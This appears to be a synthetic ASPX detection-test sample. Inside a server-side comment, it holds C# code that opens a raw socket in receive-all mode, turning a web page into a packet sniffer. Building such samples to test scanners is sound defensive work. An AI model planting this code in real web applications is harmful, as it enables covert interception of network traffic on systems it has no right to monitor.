<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); %>
--%>
